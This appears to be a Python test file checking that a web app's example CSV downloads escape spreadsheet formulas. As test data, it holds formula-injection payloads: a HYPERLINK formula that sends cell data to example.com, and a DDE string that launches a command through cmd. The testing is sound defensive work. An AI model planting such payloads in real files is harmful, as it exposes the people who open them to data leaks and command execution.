"""The example files to download (pupil import, ambassador invitations) are written like every
export: no cell a spreadsheet would run as a formula (issue 17, defect 9)."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from mentor.catalogue.seed import seed_catalogues
from mentor.exports.writers import FORMULA_STARTS
from mentor.models import Role
from tests.factories import (
    make_institution,
    make_institution_programme,
    make_interest,
    make_programme,
    make_school,
)
from tests.web import log_in_as


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def test_the_pupil_example_file_has_no_formula_even_from_a_catalogue_name(
    client: TestClient, db: Session
) -> None:
    seed_catalogues(db)
    make_interest(db, label_da='=HYPERLINK("https://example.com/?d="&A1)', sort_order=-1)
    log_in_as(client, db, Role.COORDINATOR, organisation=make_school(db))

    example = client.get("/pupils/import/example.csv")

    assert example.status_code == 200
    cells = _cells(example.content)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_the_ambassador_example_file_has_no_formula(client: TestClient, db: Session) -> None:
    institution = make_institution(db, name="@SUM(1+1)*cmd|' /C calc'!A0")
    make_institution_programme(db, institution=institution, programme=make_programme(db))
    log_in_as(client, db, Role.ADMIN)

    example = client.get("/admin/ambassadors/import/example.csv")

    assert example.status_code == 200
    cells = _cells(example.content)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
